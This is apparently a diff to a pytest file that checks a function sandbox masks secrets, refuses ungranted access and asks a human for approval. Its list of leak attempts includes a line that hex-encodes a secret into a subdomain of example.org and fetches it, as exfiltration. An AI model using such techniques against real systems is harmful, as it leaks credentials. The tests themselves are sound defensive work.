@@ -27,25 +27,21 @@ async def call(here: Workspace, name: str) -> dict[str, Any]:
     return (await here.functions.call(name, {})).to_json()
 
 
-WAYS_OUT = [
-    pytest.param('return {"a": [self.secret("KEY")]}', id="a-nested-value"),
-    pytest.param('return base64.b64encode(b"user:" + self.secret("KEY").encode()).decode()', id="base64"),
-    pytest.param('return [b"user:" + self.secret("KEY").encode()]', id="bytes"),
-    pytest.param('return self.secret("KEY").encode().hex().upper()', id="hex"),
-    pytest.param('print("it is", self.secret("KEY"))', id="printed"),
-    pytest.param('print(json.dumps(self.secret("KEY"))[:-4], end="")', id="printed-and-cut"),
-    pytest.param('print("x" * 65_525, self.secret("KEY"))', id="printed-over-the-limit"),
-    pytest.param('raise ValueError("no " + self.secret("KEY"))', id="the-words-of-an-error"),
-    pytest.param('held = {"a": "x" * 40 + self.secret("KEY") * 9}\nraise ValueError("no")', id="locals"),
-    pytest.param(
-        'type(self.secret("KEY"), (Exception,), {})\nraise type(self.secret("KEY"), (Exception,), {})', id="a-name"
-    ),
-    pytest.param('import os\nprint(self.secret("KEY"), flush=True)\nos._exit(3)', id="left-without-an-answer"),
-    pytest.param(
-        'self.fetch("http://" + self.secret("KEY").encode().hex() + ".example.org/")', id="a-host-that-is-not-granted"
-    ),
-    pytest.param('self.call(self.secret("KEY"))', id="a-refused-call"),
-]
+WAYS_OUT = (
+    'return {"a": [self.secret("KEY")]}',
+    'return base64.b64encode(b"user:" + self.secret("KEY").encode()).decode()',
+    'return [b"user:" + self.secret("KEY").encode()]',
+    'return self.secret("KEY").encode().hex().upper()',
+    'print("it is", self.secret("KEY"))',
+    'print(json.dumps(self.secret("KEY"))[:-4], end="")',
+    'print("x" * 65_525, self.secret("KEY"))',  # over the limit
+    'raise ValueError("no " + self.secret("KEY"))',
+    'held = {"a": "x" * 40 + self.secret("KEY") * 9}\nraise ValueError("no")',
+    'type(self.secret("KEY"), (Exception,), {})\nraise type(self.secret("KEY"), (Exception,), {})',
+    'import os\nprint(self.secret("KEY"), flush=True)\nos._exit(3)',
+    'self.fetch("http://" + self.secret("KEY").encode().hex() + ".example.org/")',
+    'self.call(self.secret("KEY"))',
+)
 
 
 PIECES = (
@@ -56,18 +52,20 @@ PIECES = (
 )
 
 
-@pytest.mark.parametrize("body", WAYS_OUT)
-async def test_nothing_of_it_comes_out_and_nothing_of_it_is_kept(here: Workspace, config: Path, body: str) -> None:
-    await put(here, "leak", body, "KEY", network=("localhost:1",))
-    found = json.dumps(outcome := await call(here, "leak"), ensure_ascii=False, default=str)
-    assert outcome["outcome"] in ("returned", "raised", "killed")
-    assert not [piece for piece in PIECES if piece in found]
+async def test_nothing_of_it_comes_out_and_nothing_of_it_is_kept(here: Workspace, config: Path) -> None:
+    for body in WAYS_OUT:
+        await put(here, "leak", body, "KEY", network=("localhost:1",))
+        found = json.dumps(outcome := await call(here, "leak"), ensure_ascii=False, default=str)
+        assert outcome["outcome"] in ("returned", "raised", "killed"), body
+        assert not [piece for piece in PIECES if piece in found], body
     assert [*files_with("7Qz", here.root, config.parent.parent)] == []
 
 
-async def test_a_function_is_given_the_very_value(here: Workspace) -> None:
+async def test_a_function_is_given_the_very_value_until_it_is_revoked(here: Workspace) -> None:
     await put(here, "size", 'return [len(self.secret("KEY")), sum(map(ord, self.secret("KEY")))]', "KEY")
     assert (await call(here, "size"))["value"] == [len(KEY), sum(map(ord, KEY))]
+    await here.functions.grants.revoke("size", Grants(secrets=("KEY",)))
+    assert (await call(here, "size"))["outcome"] != "returned"
 
 
 async def test_its_own_requests_carry_it_unmasked_to_a_granted_host(here: Workspace) -> None:
@@ -79,76 +77,62 @@ async def test_its_own_requests_carry_it_unmasked_to_a_granted_host(here: Worksp
         assert KEY.encode().hex() in repr(server.asked)
 
 
-REFUSED = [
-    pytest.param("KEY", "knapper functions grant ask --secret KEY", id="that-is-set"),
-    pytest.param("GONE", "knapper functions grant ask --secret GONE", id="that-is-not-set"),
-    pytest.param("no name", "letters, digits and _", id="that-is-no-name"),
-]
-
-
-@pytest.mark.parametrize(("name", "says"), REFUSED)
-async def test_without_the_grant_nobody_learns_whether_it_is_set(here: Workspace, name: str, says: str) -> None:
-    await put(here, "ask", f'return self.secret("".join(["{name}"]))', "?", "OTHER")
-    error = (await call(here, "ask"))["error"]
-    assert (error["type"], says in error["message"]) == ("PermissionError", True)
-    assert "not set" not in error["message"]
-
-
-async def test_a_missing_secret_is_named_with_how_to_set_it(here: Workspace) -> None:
-    await put(here, "ask", 'return self.secret("GONE")', "GONE")
-    message = (await call(here, "ask"))["error"]["message"]
-    assert "`GONE` is not set" in message
-    assert "knapper secrets set GONE" in message
-    assert "KNAPPER_SECRET_GONE" in message
-
-
-async def test_a_secret_too_short_to_be_masked_is_not_given(here: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("KNAPPER_SECRET_PIN", "48abc12")
-    await put(here, "ask", 'return self.secret("PIN")', "PIN")
-    found = await call(here, "ask")
-    assert "fewer than 8 characters" in found["error"]["message"]
-    assert "48abc12" not in repr(found)
-
-
-async def test_a_revoked_secret_is_given_no_more(here: Workspace) -> None:
-    await put(here, "ask", 'return len(self.secret("KEY"))', "KEY")
-    assert (await call(here, "ask"))["value"] == len(KEY)
-    await here.functions.grants.revoke("ask", Grants(secrets=("KEY",)))
-    assert (await call(here, "ask"))["outcome"] != "returned"
-
-
-async def test_a_human_may_be_asked_for_a_name_that_the_text_does_not_say(here: Workspace) -> None:
-    await put(
-        here, "ask", 'names = ["KE" + "Y"]\nreturn [len(self.secret(names[0])), self.secret(names[0])]', "?", "OTHER"
-    )
+async def test_without_the_grant_nobody_learns_whether_it_is_set_and_a_human_may_be_asked(here: Workspace) -> None:
+    for name, says in (
+        ("KEY", "knapper functions grant ask --secret KEY"),
+        ("GONE", "knapper functions grant ask --secret GONE"),
+        ("no name", "letters, digits and _"),
+    ):
+        await put(here, "ask", f'return self.secret("".join(["{name}"]))', "?", "OTHER")
+        error = (await call(here, "ask"))["error"]
+        assert (error["type"], says in error["message"]) == ("PermissionError", True), name
+        assert "not set" not in error["message"]
+    computed = 'names = ["KE" + "Y"]\nreturn [len(self.secret(names[0])), self.secret(names[0])]'
+    await put(here, "asks", computed, "?", "OTHER")
     here.functions.granting.approver = asked = human("yes")
-    assert (await call(here, "ask"))["value"] == [len(KEY), MARK]
+    assert (await call(here, "asks"))["value"] == [len(KEY), MARK]
     assert [one.missing.secrets for one in asked.asked] == [("KEY",)]
 
 
-async def test_another_function_gets_a_result_with_the_secret_masked(here: Workspace) -> None:
+async def test_a_missing_secret_is_named_with_how_to_set_it_and_a_short_one_is_not_given(
+    here: Workspace, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    await put(here, "ask", 'return self.secret("GONE")', "GONE")
+    message = (await call(here, "ask"))["error"]["message"]
+    for part in ("`GONE` is not set", "knapper secrets set GONE", "KNAPPER_SECRET_GONE"):
+        assert part in message
+    monkeypatch.setenv("KNAPPER_SECRET_PIN", "48abc12")
+    await put(here, "short", 'return self.secret("PIN")', "PIN")
+    found = await call(here, "short")
+    assert "fewer than 8 characters" in found["error"]["message"]
+    assert "48abc12" not in repr(found)
+    await put(here, "remember", 'return self.memory.read("human")', memory=("human",))
+    assert "no agent's memory is at hand here" in (await call(here, "remember"))["error"]["message"]
+
+
+async def test_another_function_gets_a_mark_as_the_result_and_as_the_argument(here: Workspace) -> None:
+    told: list[str] = []
     await put(here, "inner", 'self.progress(1, 2, self.secret("KEY"))\nreturn "it is " + self.secret("KEY")', "KEY")
     await put(here, "outer", 'found = self.call("inner")\nreturn [found[::-1], list(found)]', functions=("inner",))
-    told: list[str] = []
     found = await here.functions.call("outer", {}, lambda done, total, note: told.append(note))
-    assert found.value == [f"it is {MARK}"[::-1], list(f"it is {MARK}")]
-    assert told == [MARK]
-
-
-async def test_another_function_gets_a_mark_as_the_argument_and_never_the_secret(here: Workspace) -> None:
-    shout = 'def shout(self, text: str) -> str:\n    """Shout.\n\n    Args:\n        text: What.\n    """\n'
+    assert (found.value, told) == ([f"it is {MARK}"[::-1], list(f"it is {MARK}")], [MARK])
+    shout = 'def shout(self, text: str) -> str:\n    """Shout."""\n'
     (here.root / "functions" / "s.py").write_text(f"{shout}    self.progress(1, 2, text)\n    return text + '!'\n")
     await here.functions.reload()
     await put(here, "ask", 'loud = self.call("shout", text=self.secret("KEY"))\nreturn [len(loud), loud]', "KEY")
-    told: list[str] = []
+    told.clear()
     found = await here.functions.call("ask", {}, lambda done, total, note: told.append(note))
     assert (found.value, told) == ([len(MARK) + 1, f"{MARK}!"], [MARK])
 
 
-async def test_a_worker_that_is_kept_tells_nothing_of_what_it_remembers(here: Workspace) -> None:
+async def test_a_worker_that_is_kept_tells_nothing_of_what_it_remembers_even_when_the_value_changes(
+    here: Workspace, monkeypatch: pytest.MonkeyPatch
+) -> None:
     body = 'if not hasattr(json, "held"):\n    json.held = self.secret("KEY")\n    return "new"\nreturn json.held'
     await put(here, "ask", body, "KEY", stateful=True)
     assert [(await call(here, "ask"))["value"] for _ in range(2)] == ["new", MARK]
+    monkeypatch.setenv("KNAPPER_SECRET_KEY", "another value altogether")
+    assert (await call(here, "ask"))["value"] == MARK
 
 
 @pytest.mark.parametrize("way", ["revoked", "given-once"])
@@ -163,16 +147,6 @@ async def test_a_worker_that_is_kept_tells_nothing_of_what_it_may_use_no_more(he
     assert (await call(here, "ask"))["value"] in ("new", MARK)
 
 
-async def test_a_value_that_was_changed_meanwhile_stays_masked(
-    here: Workspace, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    body = 'if not hasattr(json, "held"):\n    json.held = self.secret("KEY")\n    return "new"\nreturn json.held'
-    await put(here, "ask", body, "KEY", stateful=True)
-    await call(here, "ask")
-    monkeypatch.setenv("KNAPPER_SECRET_KEY", "another value altogether")
-    assert (await call(here, "ask"))["value"] == MARK
-
-
 async def test_no_worker_has_it_in_its_environment_or_files(here: Workspace, config: Path) -> None:
     Secrets().put("KEPT", "kept-in-the-file-1")
     look = (
@@ -185,8 +159,3 @@ async def test_no_worker_has_it_in_its_environment_or_files(here: Workspace, con
     seen = str((await call(here, "look"))["value"])[::-1]
     assert "HOME" in seen
     assert not [one for one in (KEY, "KNAPPER", "kept-in-the-file") if one in seen]
-
-
-async def test_memory_is_refused_with_a_true_word(here: Workspace) -> None:
-    await put(here, "ask", 'return self.memory.read("human")', memory=("human",))
-    assert "no agent's memory is at hand here" in (await call(here, "ask"))["error"]["message"]
